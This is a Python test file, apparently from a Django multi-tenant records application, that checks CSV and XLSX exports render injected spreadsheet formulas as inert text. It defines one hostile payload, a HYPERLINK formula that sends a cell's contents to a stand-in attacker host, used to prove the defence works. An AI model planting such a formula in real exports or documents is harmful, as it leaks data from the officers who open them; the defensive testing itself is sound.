"""Formula (CSV) injection: text someone typed reaches the files officers open as text, never as a formula."""

import csv
import io
from decimal import Decimal

from django_tenants.utils import tenant_context
from openpyxl import load_workbook

from clmis.records.downloads import table_csv, table_xlsx
from modules.employers.services import employer_save
from modules.reference.selectors import code_lookup
from tests.support import client_for, sign_in

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")'


def test_an_employer_named_like_a_formula_is_exported_as_text(kn):
    with tenant_context(kn):
        values = {
            "name": FORMULA,
            "registration_number": "C-INJECT",
            "isic": code_lookup("isic4", "5510"),
            "district": code_lookup("district", "KN-03"),
            "size_band": "10-49",
        }
        employer_save(values=values, version=None, by=None)
    statistician = sign_in(client_for("kn.localhost"), kn, "statistician")
    response = statistician.get("/employers/export.xlsx?search=C-INJECT")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    (cell,) = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == FORMULA]
    assert cell.data_type == "s"  # openpyxl would have written "f", a formula Excel runs on opening


def test_the_public_tables_write_text_as_text():
    table = [["label", "value"], [FORMULA, Decimal("-1.5")], ["@SUM(1)", Decimal("2")], ["-", None]]
    rows = list(csv.reader(io.StringIO(table_csv(table))))
    assert rows[1] == ["'" + FORMULA, "-1.5"]  # a number keeps its sign; the formula is inert
    assert rows[2][0] == "'@SUM(1)" and rows[3] == ["'-", ""]
    sheet = load_workbook(io.BytesIO(table_xlsx("Values", table))).active
    assert sheet["A2"].value == FORMULA and sheet["A2"].data_type == "s" and sheet["B2"].value == -1.5
